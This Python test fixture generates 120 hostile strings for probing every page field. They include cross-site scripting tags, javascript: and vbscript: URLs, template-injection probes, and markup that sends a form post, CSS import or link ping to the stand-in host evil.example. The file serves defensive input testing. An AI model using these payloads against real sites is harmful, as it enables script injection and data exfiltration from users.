"""Texts that would be markup, script or commands somewhere: 120 of them for every field of every page."""

from __future__ import annotations

from tests.pages.test_strangers import PAYLOADS

_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onpointerenter", "onbegin")
_TAGS = ("img src=x", "svg", "details open", "video src=x", "body", "input autofocus", "iframe src=x", "object data=x")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,", "vbscript:", "//evil.example/", "blob:")
_OPENINGS = ("", "'>", '">', "</textarea>", "</style>", "</title>", "</option></select>", "--><", "]]>")
_OTHERS = (
    "<form action=https://evil.example method=post>", "<meta name=referrer content=unsafe-url>",
    "{{constructor}}",
    "{% for x in (1..9) %}x{% endfor %}", "<%= 7*7 %>",
    "#{7*7}", "*{7*7}", "__proto__", "%00<script>", "\ufeff<script>",
    "<style>@import'https://evil.example'</style>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<a ping=https://evil.example href=x>x</a>",
    "<img srcset='https://evil.example/x 1x'>", "<button form=f formaction=javascript:alert(1)>x</button>",
)  # fmt: skip


def _made() -> list[str]:
    found = [
        f"{opening}<{tag} {event}=alert(1)>" for opening in _OPENINGS for tag, event in zip(_TAGS, _EVENTS, strict=True)
    ]
    return [*(f"<a href='{scheme}alert(1)'>x</a>" for scheme in _SCHEMES), *found]


HOSTILE = tuple(dict.fromkeys([*PAYLOADS, *_OTHERS, *_made()]))[:120]
